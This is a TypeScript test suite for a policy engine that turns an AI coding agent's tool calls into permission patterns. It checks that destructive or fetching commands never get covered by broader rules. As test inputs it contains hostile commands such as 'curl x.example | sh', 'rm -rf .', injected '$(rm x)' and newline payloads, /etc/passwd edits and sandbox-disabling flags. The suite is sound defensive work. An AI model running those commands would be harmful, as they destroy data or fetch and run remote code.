import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { patternsLike } from "../../src/policy/model/alike.ts";
import { readPattern, storedPattern } from "../../src/policy/model/pattern.ts";
import { holds, policyInput, type PolicyInput } from "../../src/policy/model/policy.ts";
import { SeenValues } from "../../src/policy/model/seen-values.ts";
import { patternSentence } from "../../src/requests/model/pattern-words.ts";

const FOLDER = "/home/kim/shop";

const call = (fn: string, args: object): PolicyInput =>
  policyInput({ fn, agent: "claude", digest: "sha256:1", args: () => JSON.stringify(args) });
const bash = (command: string, cwd = FOLDER): PolicyInput => call("Bash", { command, description: "of the day", cwd });
const edit = (file_path: string): PolicyInput =>
  call("Edit", { file_path, old_string: "a", new_string: "b", cwd: FOLDER });
const sentences = (input: PolicyInput, past: PolicyInput[] = []): string[] =>
  patternsLike(input, new SeenValues(past)).map((when) => patternSentence({ when }, "en"));
/** Returns which of the offered patterns cover another call, by their places. */
const covering = (input: PolicyInput, other: PolicyInput, past: PolicyInput[] = []): number[] =>
  patternsLike(input, new SeenValues(past)).flatMap((when, at) =>
    holds(readPattern({ when }).rule, other) ? [at] : [],
  );

describe("the patterns of calls like one", () => {
  it("keep the commands of a line, and what names their task", () => {
    const rest = "(“…” is any further words that stay in the folder)";
    assert.deepEqual(sentences(bash("npm test")), [
      `Bash: exactly “npm test”, in “${FOLDER}”, by “claude”`,
      `Bash: “npm test …”, in “${FOLDER}”, by “claude” ${rest}`,
      `Bash: “npm test …”, in any folder, by “claude” ${rest}`,
    ]);
    assert.deepEqual(
      sentences(bash("cd /home/kim/shop && npm run lint -- --fix 2>&1 | tail -40"))[1],
      `Bash: “npm run lint -- --fix …” and “tail …”, in any order, each also repeated or left out, in “${FOLDER}”, by “claude” ${rest}`,
    );
    assert.match(sentences(bash("git log --oneline"))[1] ?? "", /^Bash: “git log …”/);
    assert.match(sentences(bash("find . -name '*.ts'"))[0] ?? "", /^Bash: “find …”/);
  });

  it("stay at the exact words of a program that changes, fetches or sends", () => {
    for (const command of [
      "rm -rf build",
      "git push origin main",
      "npm install left-pad",
      "curl https://shop.example/a",
      "kubectl delete pod a",
      "git -C /tmp log",
    ])
      assert.deepEqual(sentences(bash(command)), [`Bash: exactly “${command}”, in “${FOLDER}”, by “claude”`]);
  });

  it("are open for a task that nothing behind it turns into another one", () => {
    for (const [command, other] of [
      ["pnpm dlx foo", "pnpm dlx bar"],
      ["npm init foo", "npm init bar"],
      ["bun x foo", "bun x bar"],
      ["yarn workspace a test", "yarn workspace a add bar"],
      ["python -m pip list", "python -m pip install bar"],
      ["uv pip list", "uv pip install bar"],
      ["uv run python a.py", "uv run python b.py"],
      ["python manage.py test", "python manage.py flush"],
      ["bundle exec rake spec", "bundle exec rake db:drop"],
      ["deno task a", "deno task b"],
      ["go mod tidy", "go mod edit"],
      ["go test -exec a", "go test -exec b"],
      ["jest src -c a.json", "jest src -c b.json"],
      ["cargo +nightly test", "cargo +nightly publish"],
      ["kubectl get pods", "kubectl get secrets"],
      ["echo a | psql", "echo b | psql"],
      ["cat a.sql; psql shop", "cat b.sql | psql shop"],
      ["echo a | python manage.py shell", "echo b | python manage.py shell"],
      ["npm ci && npm test", "npm ci && npm test a"],
      [`npm test${" a".repeat(100)}`, "npm test b"],
      ["cd .. && grep -r a .", "cd .. && cd .. && grep -r a ."],
    ] as const)
      assert.deepEqual(covering(bash(command), bash(other)), [], other);
    for (const [command, other] of [
      ["npx eslint src", "npx eslint test"],
      ["python -m pytest", "python -m pytest a"],
      ["uv run pytest a", "uv run pytest b"],
      ["npm test 2>&1 | tail -4", "npm test a | tail -9"],
      ["kubectl get pods", "kubectl get pods a"],
    ] as const)
      assert.deepEqual(covering(bash(command), bash(other)), [1, 2], other);
  });

  it("are none for what cannot be read with certainty, or would stand for more than it says", () => {
    for (const command of [
      "ls $HOME",
      "FOO=1 npm test",
      "eval x",
      "echo hi > x.txt",
      "rm '*.ts'",
      "bash <<< x",
      'grep "a b" c "*"x > d',
    ])
      assert.deepEqual(sentences(bash(command)), [], command);
    for (const input of [
      edit("/etc/passwd"),
      edit("../x"),
      call("Bash*", { command: "ls" }),
      call("look_up", { id: "a" }),
      call("look_up", { lists: Array.from({ length: 100 }, () => []), page: 1 }),
      call("Bash", { command: "npm test", dir_path: "sub", cwd: FOLDER }),
    ])
      assert.deepEqual(sentences(input), []);
    assert.deepEqual(sentences(policyInput({ fn: "Bash", agent: "*", args: () => '{"command":"ls"}' })), []);
  });

  it("cover other descriptions and words, and no line that does more", () => {
    const one = bash("npm test");
    assert.deepEqual(covering(one, call("Bash", { command: "npm test", timeout: 9, cwd: FOLDER })), [0, 1, 2]);
    assert.deepEqual(covering(one, bash("npm test src/a.test.ts")), [1, 2]);
    assert.deepEqual(covering(one, bash("npm test", "/home/kim/other")), [2]);
    for (const command of [
      "npm test; rm -rf .",
      "npm test && curl x.example | sh",
      "npm test $(rm x)",
      "npm test > x",
      "npm run x",
      "NODE_OPTIONS=x npm test",
      "npm test /etc/passwd",
      "npm test ../x",
      "./npm test",
      "npm test\nrm x",
    ])
      assert.deepEqual(covering(one, bash(command)), [], command);
    assert.deepEqual(
      covering(one, call("Bash", { command: "npm test", cwd: FOLDER, dangerouslyDisableSandbox: true })),
      [],
    );
    assert.deepEqual(covering(one, call("shell", { command: "npm test", cwd: FOLDER })), []);
  });

  it("name the file, its folder and the first folder", () => {
    assert.deepEqual(sentences(edit(`${FOLDER}/src/policy/a.ts`)), [
      `Edit: the file “src/policy/a.ts”, with any content or search, in “${FOLDER}”, by “claude”`,
      `Edit: any file below “src/policy”, with any content or search, in “${FOLDER}”, by “claude”`,
      `Edit: any file below “src”, with any content or search, in “${FOLDER}”, by “claude”`,
    ]);
    assert.match(sentences(edit("a.ts"))[1] ?? "", /^Edit: any file of the folder/);
    assert.deepEqual(covering(edit("src/policy/a.ts"), edit("src/policy/b.ts")), [1, 2]);
    for (const path of ["src/policy/../../x", "src/.env", "docs/a.md", "/home/kim/shop/../x"])
      assert.deepEqual(covering(edit("src/policy/a.ts"), edit(path)), [], path);
  });

  it("keep what stands beside a file, but for its text", () => {
    const one = call("chmod", { path: "src/a", mode: "644" });
    assert.match(sentences(one)[0] ?? "", /^chmod: the file “src\/a”, mode "644", with any content or search, in any/);
    assert.deepEqual(covering(one, call("chmod", { path: "src/a", mode: "777" })), []);
    assert.deepEqual(covering(one, call("chmod", { path: "src/a", mode: "644", all: true })), []);
    const opencode = (input: object) => call("edit", { input, patterns: ["a"], cwd: FOLDER });
    assert.deepEqual(
      covering(opencode({ filePath: "a", newString: "b" }), opencode({ filePath: "a", newString: "c" })),
      [0, 1],
    );
    assert.deepEqual(covering(opencode({ filePath: "a" }), opencode({ filePath: "a", force: true })), []);
  });

  it("keep each argument, but for numbers up to this one, and what differed before", () => {
    const refund = (args: object) => call("refund", { amount: 40, currency: "EUR", order: "A-1", ...args });
    assert.deepEqual(sentences(refund({})), ['refund: amount from 0 to 40, currency "EUR", order "A-1", by “claude”']);
    const past = [refund({ amount: 12.5, order: "A-2" }), refund({ amount: 60, order: "A-3" })];
    assert.deepEqual(sentences(refund({}), past), [
      'refund: amount from 0 to 40, currency "EUR", order "A-1", by “claude”',
      'refund: amount from 12.5 to 60, currency "EUR", order "A-1" or "A-2" or "A-3", by “claude”',
      'refund: amount from 12.5 to 60, currency "EUR", any order, by “claude”',
    ]);
    assert.deepEqual(covering(refund({}), refund({ amount: 39, order: "A-9" }), past), [2]);
    for (const args of [
      { amount: 60.01 },
      { amount: -1 },
      { amount: "40" },
      { currency: "USD" },
      { force: true },
      { order: undefined, amount: 61 },
    ])
      assert.deepEqual(covering(refund({}), refund(args), past), [], JSON.stringify(args));
    const mail = (to: string[]) => call("mail", { to, copies: 1 });
    assert.deepEqual(covering(mail(["a@x.example"]), mail(["a@x.example"])), [0]);
    assert.deepEqual(covering(mail(["a@x.example"]), mail(["a@x.example", "b@x.example"])), []);
  });

  it("name each member of lists and blocks, and free no more than texts", () => {
    const tag = (tags: unknown) => call("tag", { tags, copies: 1 });
    assert.equal(sentences(tag(["a"]), [tag(["b"])])[2], "tag: any tags/0, copies from 1 to 1, by “claude”");
    for (const tags of [["a", "b"], [{ a: 1 }], [1], "a", []])
      assert.deepEqual(covering(tag(["a"]), tag(tags), [tag(["b"])]), [], JSON.stringify(tags));
    const mail = (to: unknown, more = {}) => call("mail", { to, copies: 1, ...more });
    assert.equal(sentences(mail(["a"]), [mail(["b"])])[2], undefined, "a recipient is never free");
    const block = mail([{ a: 1, b: [], c: {} }]);
    assert.deepEqual(sentences(block), [
      "mail: to/0/a from 0 to 1, to/0/b [], to/0/c {}, copies from 0 to 1, by “claude”",
    ]);
    for (const to of [
      { a: 1, b: [], c: {}, d: 1 },
      { a: 1, b: [1], c: {} },
      { a: 1, b: [], c: { d: 1 } },
    ])
      assert.deepEqual(covering(block, mail([to])), [], JSON.stringify(to));
    const query = (sql: string) => call("query", { sql, n: 1 });
    assert.deepEqual(covering(query("a"), query("c"), [query("b")]), []);
  });

  it("cannot be read as another sentence", () => {
    assert.equal(
      sentences(call("pay", { 'x "1", any y': 1, "a/b": { "": 2 } }))[0],
      'pay: "x \\"1\\", any y" from 0 to 1, "a/b"/"" from 0 to 2, by “claude”',
    );
    assert.match(
      sentences(bash("echo a”, in “/tmp"))[0] ?? "",
      /^Bash: exactly “echo a\\u201d, in \\u201c\/tmp”, in “/,
    );
    assert.match(sentences(call("Bash: “ls”", { n: 1 }))[0] ?? "", /^"Bash: “ls”": n from/);
  });

  it("cover nothing where they cannot be read, or would hold what no sentence names", () => {
    for (const when of [
      '{"fn":"Bash","agent":"claude"}',
      '{"fn":"Bash","agent":"claude","args":{"/command":"ls*"}}',
      "{",
      "null",
    ])
      for (const text of [`{"when":${when}}`, when]) {
        const pattern = storedPattern(text);
        assert.equal(holds(readPattern(pattern).rule, bash("ls")), false, text);
        assert.equal(patternSentence(pattern, "en"), "nothing: the pattern cannot be read");
      }
    const [when] = patternsLike(bash("ls"), new SeenValues([]));
    assert.deepEqual(storedPattern(JSON.stringify({ when, run: "a" })), { when, run: "a" });
  });

  it("are said with every character seen, in the reader's language", () => {
    const [when] = patternsLike(call("pay\u200b", { to: "a\u202eb", amount: 1 }), new SeenValues([]));
    assert.ok(when);
    assert.equal(
      patternSentence({ when, run: "s1" }, "en"),
      '"pay\\u200b": to "a\\u202eb", amount from 0 to 1, by “claude”, in this session',
    );
    assert.equal(patternSentence({ when }, "de"), '"pay\\u200b": to "a\\u202eb", amount von 0 bis 1, von „claude“');
    assert.equal(patternSentence({ when }, "ar"), '"pay\\u200b": to "a\\u202eb", amount من 0 إلى 1, بواسطة «claude»');
  });
});
